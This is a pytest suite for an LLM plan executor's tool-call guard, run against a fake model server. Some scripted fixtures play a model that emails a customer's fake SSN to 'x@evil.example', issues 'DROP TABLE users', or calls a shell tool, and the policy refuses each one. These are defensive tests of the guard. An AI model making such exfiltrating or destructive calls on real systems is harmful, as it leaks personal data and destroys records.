"""LLM steps run with a real client over real HTTP (FakeLlmServer on 127.0.0.1), with their tools, and the
run-time guard refuses what the policy forbids, whoever chose the call."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plankit import ToolRegistry
from plankit.errors import ErrorType, PlanRefusedError
from plankit.execute import ModelSteps, ToolGuard, parse_answer, token_usage
from plankit.execute._llm_steps import wire_names
from plankit.lint import Policy
from plankit.llm import ChatReply, Message, ToolCall, ToolCallsTurn, ToolResult, Usage, make_llm
from plankit.plan import RetryPolicy, StepStatus
from plankit.seeds.stepchain import StepResult
from plankit.store import Store
from plankit.testing import FakeLlmServer, FakeReply, FakeToolCall, ScriptedLlm
from plankit.tools import ToolSpec

from .helpers import OPEN_POLICY, by_id, executor, make_plan, run

NO_RETRY = RetryPolicy(max_attempts=1)


def _tools(log: list[tuple[str, dict[str, Any]]]) -> ToolRegistry:
    registry = ToolRegistry()

    @registry.tool("weather.get", read_only=True)
    def weather(city: str) -> dict[str, Any]:
        """The weather in a city."""
        log.append(("weather.get", {"city": city}))
        return {"city": city, "celsius": 21}

    @registry.tool("crm.lookup", sensitive_source=True)
    def lookup(customer: str) -> dict[str, Any]:
        """A customer's record."""
        log.append(("crm.lookup", {"customer": customer}))
        return {"customer": customer, "email": "ann@outside.example", "ssn": "123-45-6789"}

    @registry.tool("notify.email", sink=True)
    def email(to: str, body: str) -> str:
        """Send an email."""
        log.append(("notify.email", {"to": to, "body": body}))
        return "sent"

    @registry.tool("payments.refund")
    def refund(amount: float) -> dict[str, Any]:
        """Refund an amount."""
        log.append(("payments.refund", {"amount": amount}))
        return {"refunded": amount}

    return registry


def _runner(server: FakeLlmServer, provider: str = "openai") -> ModelSteps:
    url = server.openai_base_url if provider == "openai" else server.url
    return ModelSteps(make_llm(f"{provider}:fake-model", base_url=url, retry=NO_RETRY))


def _execute(plan_steps: list[dict[str, Any]], server: FakeLlmServer, log: list[Any], **options: Any) -> Any:
    async def body(store: Store) -> Any:
        steps = options.pop("steps", None) or _runner(server, options.pop("provider", "openai"))
        try:
            return await executor(store, _tools(log), llm=steps, **options).start(make_plan(plan_steps))
        finally:
            await steps.client.aclose()

    return run(body)


def test_a_step_calls_its_tool_and_answers_with_json_chained_to_the_next_step() -> None:
    log: list[Any] = []
    replies = [
        FakeReply.calling(("weather_get", {"city": "Oslo"}), content="Let me look."),
        FakeReply(content='{"summary": "mild", "celsius": 21}', usage=(30, 7)),
        FakeReply(content="Wear a light jacket.", usage=(12, 5)),
    ]
    steps = [
        {"id": "ask", "type": "llm", "prompt": "Weather in {{context.city}}?", "tools": ["weather.get"]},
        {"id": "advise", "type": "llm", "prompt": "What to wear?", "depends_on": ["ask"]},
    ]
    with FakeLlmServer(replies) as server:

        async def body(store: Store) -> Any:
            runner = _runner(server)
            plan = make_plan(steps, context={"city": "Oslo"})
            try:
                return await executor(store, _tools(log), llm=runner).start(plan)
            finally:
                await runner.client.aclose()

        execution = run(body)
        requests = [request.body for request in server.requests]
    records = by_id(execution)
    assert execution.status.value == "completed"
    assert log == [("weather.get", {"city": "Oslo"})]
    assert records["ask"].output == {
        "text": '{"summary": "mild", "celsius": 21}',
        "data": {"summary": "mild", "celsius": 21},
        "model": "openai:fake-model",
        "response_id": "chatcmpl-fake-2",
        "previous_response_id": None,
        "usage": {"input_tokens": 31, "output_tokens": 8, "total_tokens": 39},
        "tool_calls": [
            {
                "id": "call_1_0",
                "tool": "weather.get",
                "arguments": {"city": "Oslo"},
                "result": {"city": "Oslo", "celsius": 21},
            }
        ],
        "rounds": 2,
        "sensitive": False,
    }
    assert records["advise"].output["previous_response_id"] == "chatcmpl-fake-2"
    assert records["advise"].output["data"] is None
    seen = StepResult.from_step_execution(records["advise"])  # stepchain's view keeps the chain
    assert (seen.response_id, seen.previous_response_id) == ("chatcmpl-fake-3", "chatcmpl-fake-2")
    assert token_usage([record.output for record in execution.steps]) == {
        "input_tokens": 43,
        "output_tokens": 13,
        "total_tokens": 56,
    }
    # The tool went out with its schema from the registry; its result came back as a tool message.
    assert requests[0]["tools"] == [
        {
            "type": "function",
            "function": {
                "name": "weather_get",
                "description": "The weather in a city.",
                "parameters": {
                    "additionalProperties": False,
                    "properties": {"city": {"title": "City", "type": "string"}},
                    "required": ["city"],
                    "type": "object",
                },
            },
        }
    ]
    assert requests[0]["messages"][1] == {"role": "user", "content": "Weather in Oslo?"}
    assert requests[1]["messages"][2]["tool_calls"][0]["function"] == {
        "name": "weather_get",
        "arguments": '{"city": "Oslo"}',
    }
    assert requests[1]["messages"][3] == {
        "role": "tool",
        "tool_call_id": "call_1_0",
        "content": '{"city": "Oslo", "celsius": 21}',
    }
    assert "tools" not in requests[2]
    assert requests[2]["messages"][1]["content"] == (
        'What to wear?\n\nResults of the steps this one depends on:\n[ask] {"summary": "mild", "celsius": 21}'
    )


def test_anthropic_tool_use_round_trip() -> None:
    log: list[Any] = []
    replies = [FakeReply.calling(FakeToolCall("weather_get", {"city": "Rome"}, id="toolu_1")), "It is 21 degrees."]
    with FakeLlmServer(replies) as server:
        execution = _execute(
            [{"id": "ask", "type": "llm", "prompt": "Weather?", "tools": ["weather.get"]}],
            server,
            log,
            provider="anthropic",
        )
        second = server.requests[1].body
    output = by_id(execution)["ask"].output
    assert (output["text"], output["response_id"], output["rounds"]) == ("It is 21 degrees.", "msg_fake_2", 2)
    assert log == [("weather.get", {"city": "Rome"})]
    assert second["messages"][1] == {
        "role": "assistant",
        "content": [{"type": "tool_use", "id": "toolu_1", "name": "weather_get", "input": {"city": "Rome"}}],
    }
    assert second["messages"][2] == {
        "role": "user",
        "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": '{"city": "Rome", "celsius": 21}'}],
    }


def test_a_call_the_policy_denies_is_refused_recorded_and_nothing_runs() -> None:
    log: list[Any] = []
    policy = Policy(bounds={"payments.refund.amount": (0, 100)})
    replies = [FakeReply.calling(("payments_refund", {"amount": 5000}))]
    steps = [{"id": "refund", "type": "llm", "prompt": "Refund the order", "tools": ["payments.refund"]}]
    with FakeLlmServer(replies) as server:
        execution = _execute(steps, server, log, policy=policy)
    record = by_id(execution)["refund"]
    assert log == []
    assert (execution.status.value, record.status, record.error_type) == (
        "failed",
        StepStatus.FAILED,
        ErrorType.USER_ERROR,
    )
    assert record.error == (
        "tool call refused by the policy: BOUND_VIOLATION: amount of 'payments.refund' = 5000 is above the maximum "
        "100 (policy bound 'payments.refund.amount' allows [0, 100])"
    )


def test_sensitive_data_read_by_a_step_cannot_leave_through_a_sink() -> None:
    log: list[Any] = []
    replies = [
        FakeReply.calling(("crm_lookup", {"customer": "ann"})),
        FakeReply.calling(("notify_email", {"to": "x@evil.example", "body": "123-45-6789"})),
    ]
    steps = [{"id": "leak", "type": "llm", "prompt": "Summarise ann", "tools": ["crm.lookup", "notify.email"]}]
    with FakeLlmServer(replies) as server:
        execution = _execute(steps, server, log, policy=OPEN_POLICY)
    record = by_id(execution)["leak"]
    assert log == [("crm.lookup", {"customer": "ann"})]
    assert record.error == (
        "tool call refused by the policy: DATA_EXFILTRATION: sensitive data reaches sink tool 'notify.email': "
        "crm.lookup -> leak (a step that reads sensitive data may not send anything out; split the work)"
    )


def test_an_action_may_not_send_out_what_an_llm_step_read_from_a_sensitive_tool() -> None:
    log: list[Any] = []
    replies = [FakeReply.calling(("crm_lookup", {"customer": "ann"})), "Ann's SSN is 123-45-6789"]
    steps = [
        {"id": "read", "type": "llm", "prompt": "Look ann up", "tools": ["crm.lookup"]},
        {"id": "mail", "tool": "notify.email", "params": {"to": "ops@shop.example", "body": "{{read.result.text}}"}},
    ]
    with FakeLlmServer(replies) as server:
        execution = _execute(steps, server, log, policy=OPEN_POLICY)
    records = by_id(execution)
    assert records["read"].output["sensitive"] is True
    assert log == [("crm.lookup", {"customer": "ann"})]
    assert records["mail"].error == (
        "tool call refused by the policy: DATA_EXFILTRATION: sensitive data reaches sink tool 'notify.email': "
        "read -> mail (a step that reads sensitive data may not send anything out; split the work)"
    )


def test_a_value_known_only_at_run_time_is_checked_before_the_action_runs() -> None:
    log: list[Any] = []
    policy = Policy(allow_recipients=["*@shop.example"])
    steps = [
        {"id": "who", "type": "llm", "prompt": "Who to tell?"},
        {"id": "tell", "tool": "notify.email", "params": {"to": "{{who.result.data.email}}", "body": "hi"}},
    ]
    with FakeLlmServer(['{"email": "ann@outside.example"}']) as server:
        execution = _execute(steps, server, log, policy=policy)
    record = by_id(execution)["tell"]
    assert log == []
    assert (record.status, record.error_type) == (StepStatus.FAILED, ErrorType.USER_ERROR)
    assert record.error is not None and record.error.startswith("tool call refused by the policy: RECIPIENT_DENY: ")
    assert "ann@outside.example" in record.error


def test_bad_arguments_go_back_to_the_model_which_corrects_them() -> None:
    log: list[Any] = []
    replies = [
        FakeReply.calling(("weather_get", {"town": "Oslo"}), ("nope_tool", {})),
        FakeReply.calling(("weather_get", {"city": "Oslo"})),
        "done",
    ]
    with FakeLlmServer(replies) as server:
        execution = _execute(
            [{"id": "ask", "type": "llm", "prompt": "Weather?", "tools": ["weather.get"]}], server, log
        )
        retry_messages = server.requests[1].body["messages"]
    output = by_id(execution)["ask"].output
    assert [call.get("error") for call in output["tool_calls"]] == [
        "tool call refused by the policy: TOOL_ARGS_INVALID: missing required parameter 'city' (tool 'weather.get') "
        "(add 'city' to params)",
        "tool 'nope_tool' is not offered to this step (offered: weather_get)",
        None,
    ]
    assert retry_messages[3]["role"] == "tool" and "TOOL_ARGS_INVALID" in retry_messages[3]["content"]
    assert log == [("weather.get", {"city": "Oslo"})]


def test_rate_limits_and_server_errors_are_retried_like_a_tools() -> None:
    log: list[Any] = []
    replies = [FakeReply.rate_limited(2), FakeReply.error(503, "overloaded"), "fine"]
    retry = {"strategy": "retry", "max_attempts": 3, "delay_ms": 10}
    steps = [{"id": "ask", "type": "llm", "prompt": "Hi", "on_failure": retry}]
    with FakeLlmServer(replies) as server:
        execution = _execute(steps, server, log)
    record = by_id(execution)["ask"]
    assert (record.status, record.attempt_count, record.output["text"]) == (StepStatus.COMPLETED, 3, "fine")


def test_a_refused_request_is_a_user_error_and_not_retried() -> None:
    retry = {"strategy": "retry", "max_attempts": 3, "delay_ms": 10}
    with FakeLlmServer([FakeReply.error(400, "model not found")]) as server:
        execution = _execute([{"id": "ask", "type": "llm", "prompt": "Hi", "on_failure": retry}], server, [])
    record = by_id(execution)["ask"]
    assert (record.attempt_count, record.error_type) == (1, ErrorType.USER_ERROR)
    assert record.error == "step 'ask': the model refused the request: openai:fake-model: HTTP 400: model not found"


def test_the_rounds_are_bounded() -> None:
    replies = [FakeReply.calling(("weather_get", {"city": "Oslo"}))] * 2
    with FakeLlmServer(replies) as server:

        async def body(store: Store) -> Any:
            steps = ModelSteps(make_llm("openai:m", base_url=server.openai_base_url, retry=NO_RETRY), max_rounds=2)
            plan = make_plan([{"id": "ask", "type": "llm", "prompt": "Hi", "tools": ["weather.get"]}])
            try:
                return await executor(store, _tools([]), llm=steps).start(plan)
            finally:
                await steps.client.aclose()

        execution = run(body)
    assert by_id(execution)["ask"].error == (
        "step 'ask': the model still asked for tools after 2 rounds (answer in fewer rounds, or raise max_rounds)"
    )


@pytest.mark.parametrize(
    ("tool", "params", "code"),
    [
        ("shell.run", {"cmd": "ls"}, "TOOL_DENY"),
        ("db.query", {"sql": "DROP TABLE users"}, "RAW_SECRET"),
        ("payments.refund", {"amount": 5}, "CONFIRMATION_REQUIRED"),
        ("weather.get", ["Oslo"], "TOOL_ARGS_INVALID"),
        ("weather.get", {"city": "Oslo"}, None),
    ],
)
def test_the_guard_on_single_calls(tool: str, params: Any, code: str | None) -> None:
    guard = ToolGuard(Policy.default(), _tools([]))
    found = guard.check(tool, params, step_id="s1")
    assert (found.code if found is not None else None) == code


@given(st.lists(st.text(min_size=1, max_size=90), max_size=30, unique=True))
def test_wire_names_are_valid_unique_and_map_back(names: list[str]) -> None:
    wired = wire_names(names)
    assert list(wired) == names
    assert len(set(wired.values())) == len(names)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{1,64}", name) for name in wired.values())


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    max_leaves=12,
)


@given(st.dictionaries(st.text(max_size=8), _json, max_size=5) | st.lists(_json, max_size=5), st.booleans())
def test_parse_answer_reads_json_answers_fenced_or_not(value: Any, fenced: bool) -> None:
    text = json.dumps(value, indent=1)
    assert parse_answer(f"```json\n{text}\n```" if fenced else f"  {text}\n") == value


@pytest.mark.parametrize("text", ["Sure! The answer is 4.", "", "[not json", "```\nplain\n```"])
def test_parse_answer_leaves_prose_alone(text: str) -> None:
    assert parse_answer(text) is None


def test_an_llm_steps_tool_known_only_from_a_spec_file_is_refused_before_anything_runs() -> None:
    registry = ToolRegistry([ToolSpec(name="search.web")])
    plan = make_plan([{"id": "ask", "type": "llm", "prompt": "Search", "tools": ["search.web"]}])

    async def body(store: Store) -> Any:
        steps = ModelSteps(ScriptedLlm([]))
        with pytest.raises(PlanRefusedError) as caught:
            await executor(store, registry, llm=steps).start(plan)
        return str(caught.value)

    assert run(body) == (
        "the plan was refused (1 lint error):\n"
        "  CONTRA_NO_TOOL ask: tool 'search.web' of llm step 'ask' has no implementation in this executor"
    )


def test_scripted_llm_plays_tool_calls_without_a_server() -> None:
    log: list[Any] = []
    call = ToolCall("c1", "weather_get", {"city": "Bergen"}, '{"city": "Bergen"}')
    llm = ScriptedLlm([ChatReply("", (call,), "r1", Usage(3, 2)), ChatReply("Rainy.", (), "r2", Usage(4, 1))])
    plan = make_plan([{"id": "ask", "type": "llm", "prompt": "Weather?", "tools": ["weather.get"]}])

    async def body(store: Store) -> Any:
        return await executor(store, _tools(log), llm=ModelSteps(llm, system="Be brief.")).start(plan)

    output = by_id(run(body))["ask"].output
    assert (output["text"], output["response_id"], output["usage"]["total_tokens"]) == ("Rainy.", "r2", 10)
    assert [tool.name for tool in llm.offered[0]] == ["weather_get"]
    assert llm.conversations[1] == (
        Message.system("Be brief."),
        Message.user("Weather?"),
        ToolCallsTurn((call,), ""),
        ToolResult("c1", "weather_get", '{"city": "Bergen", "celsius": 21}'),
    )
